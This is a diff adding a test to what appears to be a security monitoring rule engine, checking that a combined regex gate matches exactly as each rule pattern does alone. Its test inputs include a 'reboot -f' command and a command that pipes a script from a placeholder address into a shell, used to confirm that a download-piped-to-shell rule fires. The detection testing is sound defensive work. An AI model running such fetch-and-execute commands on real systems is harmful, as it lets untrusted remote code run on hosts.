@@ -357,3 +357,33 @@ def test_a_discovery_burst_is_reported_once_per_burst(builtin):
 
     assert burst(1000) == [5]                  # the sixth kind, and none of the two after it
     assert burst(1100) == [5]                  # a minute and more later: a new burst (the old kinds aged out)
+
+
+def test_the_argv_gate_gives_the_verdicts_of_every_pattern_searched_alone(builtin):
+    """collector/rules/engine.py searches every argv_regex of an index at once (RE2's FilteredRE2) and passes over
+    the rules whose pattern does not match: the same matches as searching each pattern alone, on every exec case of
+    the corpus, on a one-line script split over lines, and with the match at the end of a megabyte of junk."""
+    import random  # noqa: PLC0415
+    import string  # noqa: PLC0415
+
+    from tests import test_rule_corpus as corpus  # noqa: PLC0415
+
+    gated, alone = Engine(builtin), Engine(builtin)
+    for index in (alone.by_event.get("exec"), alone.stateful.get("exec")):
+        if index is not None:
+            index.gate = None
+    assert gated.by_event["exec"].gate is not None and len(gated.by_event["exec"].gate.slot) > 50
+    rnd = random.Random(7)
+    chars = string.ascii_letters + string.digits + string.punctuation + " "
+    junk = "".join(rnd.choice(chars) for _ in range((1 << 20) - 100))            # under the search cap
+    specs = [c["exec"] for c in corpus.CORPUS["cases"] if "exec" in c]
+    specs += [{"argv": ["sh", "-c", "python train.py\nreboot -f\n"]},
+              {"argv": ["sh", "-c", junk + " ; curl -s http://198.51.100.7/i.sh | sh"]}]
+    fired = 0
+    for spec in specs:
+        ev = corpus.exec_event(spec)
+        want = {m.rule.id for m in alone.evaluate("h", ev, JobContext())}
+        assert {m.rule.id for m in gated.evaluate("h", ev, JobContext())} == want, spec["argv"][:3]
+        fired += bool(want)
+    assert fired > 300                     # the cases exercise the gate: most fire something
+    assert "download-piped-to-shell" in {m.rule.id for m in gated.evaluate("h", ev, JobContext())}   # the last
